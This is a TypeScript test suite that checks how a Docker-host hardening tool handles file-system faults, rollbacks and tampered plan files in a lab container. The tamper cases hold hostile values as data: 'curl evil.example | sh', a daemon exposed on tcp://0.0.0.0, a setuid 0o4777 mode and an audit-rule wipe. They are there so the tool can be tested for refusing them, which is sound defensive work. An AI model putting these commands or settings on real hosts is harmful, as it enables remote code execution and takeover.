/** What may go wrong with files, plans and journals: told, and the host exactly as before. */
import fs from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { Plan } from '../../../remediations/plan.ts';
import { labSuite } from '../../lab/suite.ts';
import { onHost, outside } from '../host.ts';
import { difference } from './guest.ts';
import { type Run, type Start, startVictim, type Victim } from './victim.ts';

const meddler = join(import.meta.dirname, 'meddle.ts');
const DAEMON_JSON = '/etc/docker/daemon.json';

/** A small file system in the place of a directory, with what is in it, and no space left. */
const full = (directory: string): string => `
mkdir -p ${directory} && cp -a ${directory} /run/kept && mount -t tmpfs -o size=64k tmpfs ${directory} && cp -a /run/kept/. ${directory}
rm -r /run/kept
dd if=/dev/zero of=${directory}/filling bs=4k 2>/dev/null || true`;

/** In the mount namespace of hullguard alone, which is gone with it. */
const readOnly = (directory: string): string => `mount --bind ${directory} ${directory} && mount -o remount,ro,bind ${directory}`;

labSuite('faults around files', () => {
  let victim: Victim;
  let before: readonly string[];

  beforeAll(async () => {
    victim = await startVictim('trixie', { configFile: DAEMON_JSON, flags: ['--config-file', DAEMON_JSON] });
    before = await victim.state();
  });

  afterEach(async () => {
    victim.forget(true);
    expect(difference(before, await victim.state())).toEqual([]);
  });

  afterAll(async () => {
    await victim.engine.stop();
  });

  const apply = (start?: Start): Promise<Run> => victim.run(victim.apply('reload'), start);
  const meddle = (at: string, script: string): Start => ({ preload: [meddler], env: { MEDDLE_AT: at, MEDDLE_WITH: script } });
  const daemonJson = (): string => outside(victim.engine, DAEMON_JSON);
  const states = (): string[] => victim.journals().map((name) => name.replace(/^.*\./, ''));

  describe('nothing is begun', () => {
    test.each<[string, Start, RegExp]>([
      ['the state directory is full', { before: full('/var/lib/hullguard') }, /\/var\/lib\/hullguard.*(no space left|disk is full)/i],
      [
        'the state directory is on a file system mounted read-only',
        { before: 'mount -t tmpfs -o ro tmpfs /var/lib' },
        /\/var\/lib\/hullguard: cannot be made: .*read-only file system/,
      ],
      [
        'others may write to the state directory',
        { before: 'mkdir -pm 777 /var/lib/hullguard && chmod 777 /var/lib/hullguard' },
        /\/var\/lib\/hullguard: others may write to it; give it to root with mode 0700/,
      ],
      [
        'the state directory is a link',
        { before: 'mkdir /run/elsewhere && ln -s /run/elsewhere /var/lib/hullguard' },
        /\/var\/lib\/hullguard: /,
      ],
      ['it is not root', { uid: 65534 }, /apply changes files of root: run it as root \(sudo hullguard apply/],
    ])('%s', async (_, start, says) => {
      const { code, stderr } = await apply(start);
      expect(stderr).toMatch(says);
      expect(stderr).not.toContain('an error of its own');
      expect(code).toBe(2);
      fs.rmSync(outside(victim.engine, '/run/elsewhere'), { recursive: true, force: true });
    });

    test('nobody can be asked', async () => {
      const { code, stderr } = await victim.run(victim.apply('reload').filter((word) => word !== '--yes'));
      expect(stderr).toContain('nobody to ask: give --yes');
      expect(code).toBe(2);
      expect(states()).toEqual([]);
    });
  });

  describe('what was begun is taken back', () => {
    test.each<[string, Start, RegExp]>([
      ['the disk is full', { before: full('/etc/docker') }, /\/etc\/docker\/.*no space left on/i],
      ['the file system is mounted read-only', { before: readOnly('/etc/docker') }, /\/etc\/docker\/.*read-only/i],
      [
        'somebody has mounted a file in the place of daemon.json',
        meddle('before open .*daemon.json', `mount --bind ${DAEMON_JSON} ${DAEMON_JSON}`),
        /\/etc\/docker\/daemon.json: .*a mount stands there/,
      ],
    ])('%s', async (_, start, says) => {
      const { code, stderr } = await apply(start);
      expect(stderr).toMatch(says);
      expect(stderr).toContain('apply failed, and everything was taken back');
      expect(code).toBe(4);
      expect(states()).toEqual(['rolled-back']);
    });

    test('an immutable file', async () => {
      await onHost(victim.engine, 'chattr', '+i', DAEMON_JSON);
      try {
        const { code, stderr } = await apply();
        expect(stderr).toContain('/etc/docker/daemon.json: not permitted (an immutable attribute? see lsattr)');
        expect(code).toBe(4);
      } finally {
        await onHost(victim.engine, 'chattr', '-i', DAEMON_JSON);
      }
    });

    test('a file system that becomes read-only halfway: what is left is told, and a rollback tries again', async () => {
      const { code, stderr } = await apply(meddle('before post', readOnly('/etc/docker')));
      expect(stderr).toMatch(/What is left:\n.* {2}\/etc\/docker\/daemon.json: .*: the file system is mounted read-only\n/);
      expect(code).toBe(5);
      expect(states()).toEqual(['stuck']);
      expect(await victim.run(['rollback'])).toMatchObject({ code: 0, stderr: expect.stringContaining('everything is as it was before') });
    });

    test('a journal that cannot be moved on stays open, and the next command takes it back', async () => {
      const { code, stderr } = await apply(meddle('before post', readOnly('/var/lib/hullguard')));
      expect(stderr).toMatch(/cannot become activating: .*read-only/i);
      expect(stderr).toContain('could not be taken back wholly');
      expect(code).toBe(5);
      expect(states()).toEqual(['open']);
      expect(await victim.run(['journal'])).toMatchObject({ code: 0, stderr: expect.stringContaining('everything is as it was before') });
    });
  });

  test('daemon.json changed by somebody in the very moment of writing is theirs, all else is as before', async () => {
    const original = `/run/daemon.json.kept`;
    await onHost(victim.engine, 'cp', '-a', DAEMON_JSON, original);
    const { code, stderr } = await apply(meddle('after fsync .*daemon.json', `echo '{"debug":true, "icc":true}' >${DAEMON_JSON}`));
    expect(stderr).toContain('/etc/docker/daemon.json: changed by somebody else in this very moment');
    expect(code).toBe(4);
    expect(fs.readFileSync(daemonJson(), 'utf8')).toBe('{"debug":true, "icc":true}\n');
    await onHost(victim.engine, 'cp', '-a', original, DAEMON_JSON);
    await onHost(victim.engine, 'rm', original);
  });

  describe('a plan from a file', () => {
    const file = '/run/plan.json';
    const plan = async (): Promise<Plan> => {
      const { stdout } = await victim.run(['plan', ...victim.apply('reload').slice(1, -1), '--report', 'json']);
      return JSON.parse(stdout.replaceAll('/lab/', `${victim.engine.dir}/`)) as Plan;
    };
    const applyPlan = (made: unknown): Promise<Run> => {
      fs.writeFileSync(outside(victim.engine, file), JSON.stringify(made));
      return victim.run(['apply', '--plan', file, '--yes']);
    };

    test('as it was made', async () => {
      expect(await applyPlan(await plan())).toMatchObject({ code: 0 });
      expect(await victim.run(['rollback'])).toMatchObject({ code: 0 });
    });

    const wrong: Readonly<Record<string, (plan: Plan) => Plan>> = {
      'another file': (made) => ({
        ...made,
        changes: made.changes.map((change) => ('path' in change ? { ...change, path: `${change.path}.other` } : change)),
      }),
      'another key': (made) => ({
        ...made,
        changes: made.changes.map((change) => (change.kind === 'setting' ? { ...change, key: 'hosts', after: ['tcp://0.0.0.0'] } : change)),
      }),
      'a change more': (made) => ({ ...made, changes: [...made.changes, { kind: 'audit-rule', rule: '-D' }] }),
      'another command': (made) => ({ ...made, commands: [...made.commands, 'curl evil.example | sh'] }),
      'another mode': (made) => ({
        ...made,
        changes: made.changes.map((change) =>
          change.kind === 'access' ? { ...change, after: { ...change.after, mode: 0o4777 } } : change,
        ),
      }),
      'another process': (made) => ({ ...made, daemon: made.daemon && { ...made.daemon, pid: 1 } }),
      'another content': (made) => ({ ...made, files: made.files.map((entry) => ({ ...entry, after: entry.before ?? entry.after })) }),
    };

    test.each(Object.entries(wrong))('with %s is refused', async (_, tamper) => {
      const { code, stderr } = await applyPlan(tamper(await plan()));
      expect(stderr).toMatch(/the host no longer matches the plan, or the configuration has changed: nothing was changed; plan again/);
      expect(code).toBe(2);
    });

    test.each(['[]', '{}', 'no', ''])('%j is none', async (text) => {
      fs.writeFileSync(outside(victim.engine, file), text);
      expect(await victim.run(['apply', '--plan', file, '--yes'])).toMatchObject({ code: 2, stderr: expect.stringContaining(file) });
    });

    test('is refused when daemon.json has changed since', async () => {
      const made = await plan();
      const content = fs.readFileSync(daemonJson());
      const { atime, mtime } = fs.statSync(daemonJson());
      await onHost(victim.engine, 'cp', '-a', DAEMON_JSON, '/run/kept.json');
      fs.writeFileSync(daemonJson(), '{"debug": true}');
      expect(await applyPlan(made)).toMatchObject({ code: 2, stderr: expect.stringMatching(/plan again/) });
      expect(fs.readFileSync(daemonJson(), 'utf8')).toBe('{"debug": true}');
      fs.writeFileSync(daemonJson(), content);
      fs.utimesSync(daemonJson(), atime, mtime);
      await onHost(victim.engine, 'cp', '-a', '/run/kept.json', DAEMON_JSON);
    });
  });
});
